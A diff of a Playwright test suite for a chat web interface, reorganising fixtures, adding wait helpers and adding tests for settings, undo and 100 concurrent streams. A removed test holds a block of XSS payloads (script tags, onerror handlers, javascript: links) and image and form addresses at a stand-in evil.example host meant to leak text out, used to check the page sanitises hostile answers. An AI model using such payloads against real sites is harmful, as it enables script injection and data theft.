@@ -2,20 +2,23 @@
 
 from __future__ import annotations
 
+import asyncio
+import functools
 import json
 import re
-import time
 import zlib
-from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
-from chat_page_driver import PHONE, People, log_in, violations
-from chat_page_rig import Answer, ChatPage, Gate, chat_page
-from chromium import chromium
+from chat_page_driver import PHONE, People, violations
+from chat_page_fixtures import browser_fixture, cookies_fixture, people_fixture, rig_fixture  # noqa: F401
+from chat_page_rig import Answer, ChatPage, Gate
+from chromium import WAIT_S
 from path_proxy import PathProxy
-from playwright.sync_api import Browser, FilePayload, expect
+from playwright.sync_api import FilePayload, expect
 
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
 
@@ -28,32 +31,6 @@ FIGURES = re.compile(r"TTFT .+ · 3 tokens · 18 in \(12 cached\) · \$[0-9.]+ �
 CACHED = {"prompt_tokens": 18, "completion_tokens": 3, "prompt_tokens_details": {"cached_tokens": 12}}
 
 
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with chromium() as browser:
-        yield browser
-
-
-@pytest.fixture(scope="module")
-def rig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ChatPage]:
-    """One process of the page for all tests."""
-    with chat_page(tmp_path_factory.mktemp("chat-page")) as rig:
-        yield rig
-
-
-@pytest.fixture(scope="module")
-def cookies(browser: Browser, rig: ChatPage) -> list[Any]:
-    return log_in(browser, rig)
-
-
-@pytest.fixture
-def people(browser: Browser, rig: ChatPage, cookies: list[Any]) -> Iterator[People]:
-    rig.answers.clear()
-    rig.engine.asked.clear()
-    with People(browser, rig, cookies) as people:
-        yield people
-
-
 def test_first_question_is_answered_with_figures_and_kept(people: People, rig: ChatPage) -> None:
     rig.answers["hello"] = Answer(("Good ", "morning"), usage=CACHED)
     chat = people.chat()
@@ -62,6 +39,8 @@ def test_first_question_is_answered_with_figures_and_kept(people: People, rig: C
     chat.ask("hello")
     expect(chat.conversation).to_contain_text("Good morning")
     expect(chat.figures).to_have_text(FIGURES)
+    chat.wait_over()
+    expect(chat.conversation.get_by_role("group", name="Answer", exact=True).first).to_have_text("Good morning")
     expect(chat.box).to_have_value("")
     expect(chat.chats).to_have_text(["hello"])
     asked = rig.engine.asked[0].body
@@ -82,7 +61,7 @@ def test_text_is_shown_before_the_answer_ends_and_its_reasoning_is_folded(people
     expect(chat.figures).to_have_count(0)
     gates[1].open()
     expect(chat.conversation).to_contain_text("The first words and the last.")
-    expect(chat.figures).to_have_count(1)
+    chat.wait_answered()
     expect(chat.clock).to_have_count(0)
     expect(chat.conversation.get_by_text("Let me think.")).to_be_hidden()
     chat.conversation.get_by_text("Reasoning").click()
@@ -97,7 +76,6 @@ def test_end_of_the_interest_ends_the_work_of_the_engine(people: People, rig: Ch
     chat.ask("long")
     expect(chat.conversation).to_contain_text("Once upon a time")
     asked = rig.wait_for_asked(1)
-    begun = time.monotonic()
     if how == "button":
         chat.stop.click()
     elif how == "escape":
@@ -106,9 +84,7 @@ def test_end_of_the_interest_ends_the_work_of_the_engine(people: People, rig: Ch
         chat.page.close()
     else:
         chat.new()
-    rig.wait_until(lambda: asked.cut_at is not None, "the engine's request ends")
-    assert asked.cut_at is not None
-    assert asked.cut_at - begun < 1.0
+    rig.wait_until(lambda: asked.is_cut, "the engine's request ends")
     if how in ("button", "escape"):
         expect(chat.conversation).to_contain_text("Once upon a time")
         expect(chat.figures).to_contain_text("stopped")
@@ -121,7 +97,7 @@ def test_reload_keeps_the_conversation_the_draft_and_the_half_of_an_answer(peopl
     chat.ask_and_wait("hello")
     chat.ask("long")
     expect(chat.conversation).to_contain_text("Half of it")
-    rig.wait_until(lambda: chat.leaf["text"] == "Half of it", "the half is kept")
+    chat.wait_kept("Half of it")
     chat.box.fill("not sent yet")
     chat.page.reload()
     expect(chat.conversation).to_contain_text("You said: hello")
@@ -146,55 +122,6 @@ def test_two_tabs_share_the_list_and_have_a_conversation_each(people: People) ->
     assert {first.stored()["id"]} == {second.stored()["id"]}
 
 
-def test_killed_replica_leaves_the_text_and_offers_to_go_on(people: People, rig: ChatPage) -> None:
-    rig.answers["long"] = Answer(("Half of it,", Gate()))
-    chat = people.chat()
-    chat.ask("long")
-    expect(chat.conversation).to_contain_text("Half of it,")
-    rig.kill_replicas()
-    expect(chat.error).to_be_visible()
-    expect(chat.conversation).to_contain_text("Half of it,")
-    rig.answers["Half of it,"] = Answer((" and the other half.",))  # the answer to go on with is sent as it is
-    rig.add_replica()
-    chat.act("continue").click()
-    expect(chat.conversation).to_contain_text("Half of it, and the other half.")
-    expect(chat.error).to_have_count(0)
-    chat.wait_over()
-    assert chat.leaf["text"] == "Half of it, and the other half."
-
-
-def test_killed_page_process_comes_back_with_all_that_was_there(people: People, rig: ChatPage) -> None:
-    rig.answers["long"] = Answer(("Half of it", Gate()))
-    chat = people.chat()
-    chat.ask_and_wait("hello")
-    chat.ask("long")
-    rig.wait_until(lambda: chat.leaf["text"] == "Half of it", "the half is kept")
-    chat.box.fill("not sent yet")
-    with chat.page.expect_navigation(timeout=60_000):  # by itself, as soon as the process answers
-        rig.kill_page()
-        rig.start_page()
-    expect(chat.conversation).to_contain_text("Half of it")
-    expect(chat.box).to_have_value("not sent yet")
-    chat.box.press("Enter")
-    expect(chat.conversation).to_contain_text("You said: not sent yet")
-
-
-def test_login_wants_a_key_that_the_gateway_takes(people: People, rig: ChatPage) -> None:
-    key = rig.make_key("bob")
-    page = people.tab(is_logged_in=False)
-    expect(page.get_by_label("API key")).to_be_focused()
-    assert violations(page) == []
-    page.keyboard.type("wrong")
-    page.keyboard.press("Enter")
-    expect(page.get_by_role("alert")).to_contain_text("key")
-    page.get_by_label("API key").fill(key)
-    page.keyboard.press("Enter")
-    expect(page.locator("#penstock-message textarea")).to_be_visible()
-    assert key not in page.content()
-    cookie = next(cookie for cookie in page.context.cookies() if cookie["name"].startswith("penstock-ui"))
-    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
-
-
 def test_question_that_is_sent_before_an_answer_is_over_goes_when_it_is(people: People, rig: ChatPage) -> None:
     gates = [Gate(), Gate()]
     rig.answers["long"] = Answer(("Half of it", gates[0]))
@@ -205,7 +132,7 @@ def test_question_that_is_sent_before_an_answer_is_over_goes_when_it_is(people: 
     chat.ask("next")
     gates[0].open()
     expect(chat.conversation).to_contain_text("Half of that")
-    assert [turn["text"] for turn in chat.stored()["turns"].values()][:3] == ["long", "Half of it", "next"]
+    rig.wait_until(lambda: chat.texts()[:3] == ["long", "Half of it", "next"], "the question follows the answer")
     chat.ask("another")
     chat.box.fill("another thought")
     gates[1].open()
@@ -213,100 +140,6 @@ def test_question_that_is_sent_before_an_answer_is_over_goes_when_it_is(people: 
     chat.wait_over()
     assert chat.leaf["text"] == "Half of that", "what was changed since is not sent"
     expect(chat.box).to_have_value("another thought")
-
-
-def test_key_that_is_revoked_while_chatting_leads_back_to_the_login(people: People, rig: ChatPage) -> None:
-    key = rig.make_key("carol")
-    chat = people.chat(is_logged_in=False, url=f"{rig.url}#key={key}")
-    chat.ask_and_wait("hello")
-    rig.revoke("carol")
-    chat.ask("are you there?")
-    expect(chat.error.or_(chat.page.get_by_label("API key"))).to_be_visible()
-    chat.page.goto(f"{rig.url}#key={rig.make_key('carol2')}")
-    expect(chat.conversation).to_contain_text("You said: hello")
-    # What the page learned first decides: the question was sent and failed, or it was not sent and is still typed.
-    expect(chat.box).to_be_visible()
-    rig.wait_until(lambda: "are you there?" in chat.box.input_value() + chat.conversation.inner_text(), "it is kept")
-
-
-def test_gateway_that_is_away_is_said_and_comes_back_without_a_reload(people: People, rig: ChatPage) -> None:
-    rig.stop_gateway()
-    try:
-        chat = people.chat()
-        expect(chat.chip).to_have_text("offline")
-        chat.ask("hello")
-        expect(chat.error).to_be_visible()
-        expect(chat.conversation).to_contain_text("hello")
-    finally:
-        rig.start_gateway()
-    expect(chat.chip).to_have_text("ready")
-    chat.act("retry").last.click()
-    expect(chat.conversation).to_contain_text("You said: hello")
-    expect(chat.error).to_have_count(0)
-
-
-HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
-<svg onload="window.hacked = 1"><style>@import url(http://evil.example/a.css); body { display: none }</style>
-[link](javascript:window.hacked=1) ![image](https://evil.example/leak.png?words) [a](data:text/html,<script>1</script>)
-<link rel=stylesheet href=https://evil.example/b.css><iframe src=https://evil.example></iframe>
-<form action=https://evil.example><button>go</button></form> <a href="https://evil.example/" ping="https://evil.example">x</a>
-
-| <b onmouseover=window.hacked=1>table</b> | ![i][ref] |
-|---|---|
-| `<img src=x onerror=window.hacked=1>` | <video src=https://evil.example/v> |
-
-[ref]: https://evil.example/ref.png
-
-$\\href{javascript:window.hacked=1}{math}$ $\\includegraphics{https://evil.example/i.png}$
-
-```html
-<script>window.hacked = 1</script>
-```
-
-```mermaid
-graph LR; A-->B["<img src=x onerror=window.hacked=1>"]; click A "javascript:window.hacked=1"
-```
-The end of it."""
-
-
-# Our reader of Markdown takes the last line for code, the page's does not.
-COVER = """> - ```
-<form action=logout method=post><button>go</button></form>
-<a href=https://evil.example style="position:fixed;inset:0;z-index:9999">x</a>
-"""
-
-
-def test_html_that_gets_into_an_answer_stays_in_its_box(people: People, rig: ChatPage) -> None:
-    rig.answers[COVER] = Answer((COVER,))
-    chat = people.chat()
-    chat.ask(COVER)
-    expect(chat.figures).to_have_count(1)
-    chat.page.evaluate("document.querySelectorAll('.md form').forEach((form) => form.requestSubmit())")
-    chat.ask_and_wait("hello")
-    chat.new()  # a click, which a link over the page would get
-    expect(chat.figures).to_have_count(0)
-    assert chat.page.url == rig.url
-
-
-def test_hostile_answer_does_nothing_and_asks_no_other_host(people: People, rig: ChatPage) -> None:
-    call = {"index": 0, "id": "c", "type": "function", "function": {"name": HOSTILE, "arguments": HOSTILE}}
-    pieces = [HOSTILE[i : i + 40] for i in range(0, len(HOSTILE), 40)]
-    rig.answers[HOSTILE] = Answer(({"reasoning": HOSTILE}, *pieces, {"tool_calls": [call]}))
-    chat = people.chat()
-    chat.ask(HOSTILE)
-    expect(chat.figures).to_have_count(1)
-    expect(chat.conversation).to_contain_text("The end of it.")
-    for fold in chat.conversation.locator(".thought-group > .title").all():
-        fold.click()
-    expect(chat.conversation.locator("[aria-expanded=true]")).to_have_count(2)
-    for link in chat.conversation.get_by_role("link").all():
-        address = link.get_attribute("href") or ""
-        assert address.startswith(("https://", "http://", "#", "login")), address
-    assert chat.page.evaluate("window.hacked ?? null") is None
-    chat.page.reload()
-    expect(chat.conversation).to_contain_text("The end of it.")
-    assert chat.page.evaluate("window.hacked ?? null") is None
-    assert chat.page.locator("#penstock-chat :is(script, iframe, form, video, object, embed, link)").count() == 0
 
 
 def test_answer_is_drawn_as_markdown(people: People, rig: ChatPage, tmp_path: Path) -> None:
@@ -318,45 +151,98 @@ def test_answer_is_drawn_as_markdown(people: People, rig: ChatPage, tmp_path: Pa
     context = people.context(permissions=["clipboard-read", "clipboard-write"])
     chat = people.chat(context)
     chat.ask("markdown")
-    expect(chat.figures).to_have_count(1)
+    chat.wait_answered()
     expect(chat.conversation).to_contain_text("It costs $5 and $6, while")
     expect(chat.conversation.locator(".katex")).to_have_count(3)
     expect(chat.conversation.locator("table td").first).to_have_text("1")
     expect(chat.conversation).to_contain_text("Grüße, 你好, 👋 &")
     chat.conversation.locator("pre").hover()
     chat.conversation.locator(".code_wrap button, button.copy-code, pre button").first.click()
-    assert chat.page.evaluate("navigator.clipboard.readText()").strip() == "print('hello <b>')"
+    copied = functools.partial(chat.page.evaluate, "navigator.clipboard.readText()")
+    rig.wait_until(lambda: copied().strip() == "print('hello <b>')", "the code is copied")
     chat.act("copy").last.click()
-    rig.wait_until(lambda: chat.page.evaluate("navigator.clipboard.readText()") == text, "the answer is copied")
+    rig.wait_until(lambda: copied() == text, "the answer is copied")
 
 
 def test_branches_of_an_edited_question_and_a_second_answer(people: People, rig: ChatPage) -> None:
     rig.answers["first"] = Answer(("Answer one",))
     chat = people.chat()
     chat.ask("first")
-    expect(chat.figures).to_have_count(1)
+    chat.wait_answered()
     rig.answers["first"] = Answer(("Answer two",))
     chat.act("retry").click()
     expect(chat.conversation).to_contain_text("Answer two")
     expect(chat.conversation).to_contain_text("2/2")
+    chat.wait_over()
     chat.page.get_by_role("button", name="Previous answer").click()
     expect(chat.conversation).to_contain_text("Answer one")
+    chat.wait_over()
     chat.act("edit").first.click()
     editor = chat.page.locator("#penstock-chat textarea, #penstock-edit textarea, #penstock-message textarea").first
     expect(editor).to_have_value("first")
     editor.fill("second")
     editor.press("Enter")
     expect(chat.conversation).to_contain_text("You said: second")
+    chat.wait_answered()
     chat.page.get_by_role("button", name="Previous question").click()
     expect(chat.conversation).to_contain_text("Answer two")
+    chat.wait_over()
     chat.act("delete").last.click()
     expect(chat.conversation).not_to_contain_text("Answer two")
-    assert {turn["text"] for turn in chat.stored()["turns"].values()} == {
-        "first",
-        "second",
-        "Answer one",
-        "You said: second",
-    }
+    chat.wait_over()
+    assert {*chat.texts()} == {"first", "second", "Answer one", "You said: second"}
+
+
+def test_deleted_message_comes_back_and_a_question_without_an_answer_can_be_asked(people: People) -> None:
+    chat = people.chat()
+    chat.ask_and_wait("hello")
+    chat.act("delete").first.click()
+    expect(chat.conversation).not_to_contain_text("hello")
+    chat.wait_over()
+    chat.page.get_by_role("button", name="Undo").click()
+    expect(chat.conversation).to_contain_text("You said: hello")
+    chat.page.reload()
+    expect(chat.conversation).to_contain_text("You said: hello")
+    chat.act("delete").last.click()
+    expect(chat.conversation).not_to_contain_text("You said")
+    chat.wait_over()
+    chat.page.get_by_role("button", name="Ask", exact=True).click()
+    expect(chat.conversation).to_contain_text("You said: hello")
+    chat.wait_over()
+    assert chat.texts() == ["hello", "You said: hello"]
+
+
+N_PEOPLE = 100
+
+
+async def stream(rig: ChatPage, cookies: list[Any], join: dict[str, Any], person: str) -> str:
+    """The events of a question that a browser posted, posted again as from a tab of that name."""
+    jar = {cookie["name"]: cookie["value"] for cookie in cookies}
+    async with httpx.AsyncClient(base_url=rig.url, cookies=jar, timeout=WAIT_S) as client:
+        (await client.post("gradio_api/queue/join", json=join | {"session_hash": person})).raise_for_status()
+        return (await client.get("gradio_api/queue/data", params={"session_hash": person})).text
+
+
+def test_hundred_people_stream_at_once(people: People, rig: ChatPage) -> None:
+    gate = Gate()
+    rig.answers["all"] = Answer(("It is here", gate, " and whole"))
+    chat, joins = people.chat(), list[dict[str, Any]]()
+    chat.page.on("request", lambda each: joins.append(each.post_data_json) if "queue/join" in each.url else None)
+    chat.ask("all")
+    expect(chat.conversation).to_contain_text("It is here")
+
+    async def together() -> list[str]:
+        streams = (stream(rig, people.cookies, joins[0], f"person{i}") for i in range(N_PEOPLE))
+        return await asyncio.wait_for(asyncio.gather(*streams), 3 * WAIT_S)
+
+    with ThreadPoolExecutor(1) as thread:  # Playwright has an event loop in this one
+        streams = thread.submit(asyncio.run, together())
+        try:
+            rig.wait_until(lambda: rig.engine.n_open("all") == N_PEOPLE + 1, "all are answered at once")
+        finally:
+            gate.open()
+        ends = streams.result()
+    assert all(" and whole" in end and '"success":true' in end for end in ends)
 
 
 @pytest.mark.nightly
@@ -374,7 +260,7 @@ def test_export_is_imported_by_another_browser(people: People, tmp_path: Path) -
     other.chats.click()
     expect(other.conversation).to_contain_text("You said: What is a penstock?")
     assert other.stored() == chat.stored()
-    hostile = {"id": "../<img>", "title": HOSTILE, "turns": {"__proto__": {}}, "leaf": "x", "version": 1}
+    hostile = {"id": "../<img>", "title": "<script>", "turns": {"__proto__": {}}, "leaf": "x", "version": 1}
     file.write_text(json.dumps([hostile]))
     other.page.get_by_label("File of chats").set_input_files(file)
     expect(other.page.locator("#penstock-notices")).to_contain_text("Could not import")
@@ -397,17 +283,19 @@ def test_search_finds_a_conversation_by_its_words(people: People) -> None:
 def test_keyboard_alone_is_enough(people: People, rig: ChatPage) -> None:
     chat = people.chat()
     keyboard = chat.page.keyboard
+    expect(chat.box).to_be_focused()
     keyboard.type("line one")
     keyboard.press("Shift+Enter")
     keyboard.type("line two")
     keyboard.press("Enter")
-    expect(chat.figures).to_have_count(1)
+    chat.wait_answered()
     assert rig.engine.asked[0].question == "line one\nline two"
     keyboard.press("Control+Shift+O")
     expect(chat.conversation).not_to_contain_text("line one")
     keyboard.type("a new one")
     keyboard.press("Enter")
     expect(chat.chats).to_have_count(2)
+    chat.wait_answered()
     keyboard.press("Control+b")
     expect(chat.chats.first).not_to_be_in_viewport()
     keyboard.press("Control+b")
@@ -419,74 +307,6 @@ def test_keyboard_alone_is_enough(people: People, rig: ChatPage) -> None:
     keyboard.press("Escape")
     keyboard.press("Enter")
     expect(chat.conversation).to_contain_text("line one")
-
-
-def test_wait_for_a_replica_is_told_with_its_shards(people: People, rig: ChatPage) -> None:
-    rig.stop_gateway()
-    rig.start_gateway(is_ready=False)
-    try:
-        progress = {"stage": "loading weights", "shards_done": 17, "shards_total": 30, "fraction": 0.57, "eta_s": 40.0}
-        rig.announce("loading", progress=progress)
-        chat = people.chat()
-        expect(chat.chip).to_contain_text("17/30")
-        chat.ask("hello")
-        expect(chat.clock).to_have_text(re.compile(r"waiting for a replica: loading 17/30 shards, about \d+ s · \d+ s"))
-        rig.add_replica()
-        expect(chat.conversation).to_contain_text("You said: hello")
-        expect(chat.chip).to_have_text("ready")
-    finally:
-        rig.stop_gateway()
-        rig.start_gateway()
-
-
-@pytest.mark.nightly
-def test_place_in_the_queue_is_told(people: People, rig: ChatPage) -> None:
-    gate = Gate()
-    rig.answers["long"] = Answer(("Once", gate))
-    rig.stop_gateway()
-    rig.start_gateway(max_in_flight=1)
-    try:
-        chats = [people.chat() for _ in range(3)]
-        chats[0].ask("long")
-        expect(chats[0].conversation).to_contain_text("Once")
-        chats[1].ask("second")
-        expect(chats[1].clock).to_contain_text("in the queue")
-        chats[2].ask("third")
-        expect(chats[2].clock).to_contain_text("in the queue: 1 before you")
-        gate.open()
-        expect(chats[2].conversation).to_contain_text("You said: third")
-    finally:
-        rig.stop_gateway()
-        rig.start_gateway()
-
-
-TOO_LONG = (
-    "This model's maximum context length is 1024 tokens. However, you requested 1612 tokens (1100 in the messages, 512 "
-    "in the completion). Please reduce the length of the messages or completion."
-)
-
-
-def test_prompt_that_is_too_long_can_leave_out_the_oldest(people: People, rig: ChatPage) -> None:
-    chat = people.chat()
-    chat.ask_and_wait("the oldest")
-    rig.answers["too much"] = Answer((TOO_LONG,), status=400)
-    chat.ask("too much")
-    expect(chat.error).to_contain_text("588 tokens too long")
-    rig.answers.clear()
-    chat.act("shrink").click()
-    expect(chat.conversation).to_contain_text("You said: too much")
-    assert "the oldest" not in json.dumps(rig.engine.asked[-1].body["messages"])
-
-
-@pytest.mark.nightly
-def test_overload_is_told_with_a_countdown_and_asked_again(people: People, rig: ChatPage) -> None:
-    rig.answers["busy"] = Answer(("too many requests",), status=429, headers={"Retry-After": "2"})
-    chat = people.chat()
-    chat.ask("busy")
-    expect(chat.error).to_be_visible()
-    rig.answers.clear()
-    chat.error.locator("button[data-act=retry]").click()
-    expect(chat.conversation).to_contain_text("You said: busy")
 
 
 def test_image_goes_to_the_model_and_stays_in_the_conversation(people: People, rig: ChatPage) -> None:
@@ -522,6 +342,31 @@ def test_an_image_without_text_is_still_there_when_a_setting_is_refused(people: 
     assert not rig.engine.asked
 
 
+def test_settings_go_with_the_question_and_stay_with_the_conversation(people: People, rig: ChatPage) -> None:
+    chat = people.chat()
+    panel = chat.page.locator("#penstock-settings")
+    chat.page.get_by_role("button", name="Settings").click()
+    typed = {"System message": "Be brief.", "Temperature": "0.2", "Top p": "0.9", "Top k": "40", "Min p": "0.05"}
+    for label, text in {**typed, "Seed": "7", "Stop": "END\n\\n\\n"}.items():
+        panel.get_by_label(re.compile(rf"^\s*{label}")).fill(text)
+    panel.get_by_label("JSON mode").check()
+    panel.get_by_label("off", exact=True).check()
+    chat.ask_and_wait("hello")
+    sent = rig.engine.asked[0].body
+    numbers = {"temperature": 0.2, "top_p": 0.9, "top_k": 40, "min_p": 0.05, "seed": 7, "max_tokens": 512}
+    more = {"stop": ["END", "\n\n"], "response_format": {"type": "json_object"}}
+    more["chat_template_kwargs"] = {"enable_thinking": False, "thinking": False}
+    assert {name: sent[name] for name in (*numbers, *more)} == {**numbers, **more}
+    assert [message["role"] for message in sent["messages"]] == ["system", "user"]
+    chat.page.reload()
+    for label, text in typed.items():
+        expect(panel.get_by_label(re.compile(rf"^\s*{label}"))).to_have_value(text)
+    chat.page.get_by_role("button", name="Settings").click()
+    panel.get_by_label("Send the system message").uncheck()
+    chat.ask_and_wait("and now")
+    assert "system" not in [message["role"] for message in rig.engine.asked[1].body["messages"]]
+
+
 def png(width: int, height: int) -> bytes:
     def part(name: bytes, data: bytes) -> bytes:
         return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")
@@ -540,7 +385,7 @@ def test_tool_calls_are_shown_and_run_by_nobody(people: People, rig: ChatPage) -
     rig.answers["weather"] = Answer(steps, finish_reason="tool_calls")
     chat = people.chat()
     chat.ask("weather")
-    expect(chat.figures).to_have_count(1)
+    chat.wait_answered()
     chat.conversation.get_by_text("get_weather").click()
     expect(chat.conversation).to_contain_text('"city": "Seoul"')
     assert chat.leaf["tool_calls"] == [{"name": "get_weather", "arguments": '{"city": "Seoul"}'}]
@@ -548,17 +393,24 @@ def test_tool_calls_are_shown_and_run_by_nobody(people: People, rig: ChatPage) -
 
 @pytest.mark.parametrize("look", ["light", "phone", nightly("dark")])
 def test_page_has_no_serious_violation(people: People, rig: ChatPage, look: str) -> None:
-    steps = ({"reasoning": "Hm."}, "Text, `code`, [a link](https://example.com), $x$\n\n```python\nprint(1)\n```\n")
+    steps = (
+        {"reasoning": "Hm."},
+        "Text, `code`, [a link](https://example.com), $x$\n\n```python\nprint(" + "1, " * 99 + ")\n```\n",
+    )
     rig.answers["all"] = Answer((*steps, "\n| a | b |\n|---|---|\n| 1 | 2 |\n"))
     options: dict[str, Any] = {"dark": {"color_scheme": "dark"}, "phone": {"viewport": PHONE, "has_touch": True}}
     chat = people.chat(**options.get(look, {}))
     chat.ask("all")
-    expect(chat.figures).to_have_count(1)
+    chat.wait_answered()
     assert not (found := violations(chat.page)), "\n".join(found)
     assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
     if look == "phone":
         expect(chat.box).to_be_in_viewport()
         expect(chat.figures).to_be_in_viewport()
+        chat.page.locator("h1").click()
+        chat.page.keyboard.press("?")
+        keys = chat.page.get_by_role("dialog", name="Keyboard shortcuts").bounding_box()
+        assert keys and keys["x"] >= 0 and keys["x"] + keys["width"] <= PHONE["width"]
     if look == "dark":
         assert chat.page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
 
@@ -570,7 +422,7 @@ def test_answer_of_200_kb_is_shown_and_kept_whole(people: People, rig: ChatPage)
     rig.answers["long"] = Answer(tuple(text[i : i + 2000] for i in range(0, len(text), 2000)))
     chat = people.chat()
     chat.ask("long")
-    expect(chat.figures).to_have_count(1, timeout=30_000)
+    chat.wait_answered()
     expect(chat.conversation).to_contain_text("Line 3699 of")
     assert chat.leaf["text"] == text
     chat.page.reload()
